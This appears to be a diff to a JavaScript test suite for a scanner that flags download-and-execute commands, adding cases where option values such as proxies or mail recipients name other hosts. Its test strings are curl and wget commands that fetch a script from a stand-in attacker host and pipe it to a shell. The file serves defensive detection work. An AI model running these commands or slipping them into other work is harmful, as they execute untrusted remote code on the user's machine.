@@ -494,6 +494,10 @@ describe('scan evasions', () => {
       'curl -fsSL -H "Referer: https://docs.example.org" https://evil.example.net/i.sh | bash',
       'curl -fsSL https://evil.example.net/i.sh?from=https://docs.example.org | bash',
       'command -v curl >/dev/null && curl -fsSL https://evil.example.net/i.sh | bash',
+      // A host as an option's value (a proxy, a mail recipient, a domain to skip) is no URL fetched.
+      "curl --proto '=https' --tlsv1.2 --socks5-hostname proxy.corp.example:1080 -sSf https://sh.rustup.rs | sh",
+      'curl --mail-rcpt ops@corp.example --preproxy socks.corp.example https://evil.example.net/i.sh | sh',
+      'wget --exclude-domains ads.example.com -qO- https://evil.example.net/i.sh | sh',
       'curl localhost:8080/x | sh',
       'curl -s 127.0.0.1/x | sh',
       'curl -fsSL 10.0.0.5/x | sh',
